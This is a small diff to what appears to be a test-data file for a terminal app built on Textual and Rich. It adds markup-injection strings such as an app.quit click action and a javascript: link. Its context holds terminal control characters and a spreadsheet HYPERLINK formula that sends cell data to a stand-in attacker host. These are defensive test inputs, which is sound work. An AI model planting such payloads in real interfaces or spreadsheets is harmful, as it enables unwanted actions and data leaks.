@@ -66,6 +66,10 @@ INVISIBLE = (
 # Names the service might send back: every one must reach the terminal as text only.
 HOSTILE_TEXT = tuple(f"Casa {bad} Lisboa" for bad in TERMINAL_CONTROLS + INVISIBLE)
 
+# Markup, to Textual and Rich: shown as sent, never a style, an action or a broken panel.
+MARKUP = ("Casa [/] Lisboa", "[b]Bold[/b] Tasca", "[@click=app.quit]Quit[/]",
+          "[link=javascript:alert(1)]Link[/link]", "Fado [/b]")
+
 # --- writing a table ------------------------------------------------------------------
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
